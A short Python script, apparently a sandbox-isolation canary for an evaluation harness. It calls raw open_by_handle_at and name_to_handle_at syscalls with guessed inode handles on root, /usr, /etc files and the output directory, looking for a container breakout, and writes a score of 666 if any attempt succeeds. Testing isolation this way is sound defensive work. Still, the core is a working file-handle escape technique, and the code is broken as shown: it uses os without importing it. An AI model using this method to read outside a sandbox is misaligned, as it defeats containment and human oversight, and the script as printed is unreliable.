# Opens files by handle: the root of the file system, then the canary's neighbours.
import ctypes, platform
breach = []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(x86, arm, *args):
    number = arm if platform.machine() == "aarch64" else x86
    return libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in (number, *args)])
def tried(name, attack):  # in a child: it may be killed
    child = os.fork()
    if child == 0:
        try:
            os._exit(66 if attack() else 0)
        finally:
            os._exit(1)
    if os.waitpid(child, 0)[1] == 66 << 8:
        breach.append(name)
def handle(number):
    block = ctypes.create_string_buffer(136)
    block[0:16] = b"\x08\0\0\0\1\0\0\0" + number.to_bytes(8, "little")
    return block
for mount in ("/", "/usr", "/etc/hosts", "/etc/resolv.conf", ".", os.environ["EVOLVE_OUTPUT"]):
    try:
        fd = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    for number in (1, 2, 64, 128, 256):
        tried(f"{number} of {mount}", lambda: call(304, 265, fd, handle(number), os.O_RDONLY) >= 0)
    def own():
        block, place = handle(0), ctypes.c_int()
        block[0:4] = (128).to_bytes(4, "little")
        found = call(303, 264, -100, mount.encode(), block, ctypes.byref(place), 0x400)
        return found == 0 and call(304, 265, fd, block, os.O_RDONLY) >= 0
    tried(f"handle of {mount}", own)
if breach:
    print("BREACH:", *breach)
with open(os.path.join(os.environ["EVOLVE_OUTPUT"], "score.txt"), "w") as file:
    file.write("666" if breach else "1")
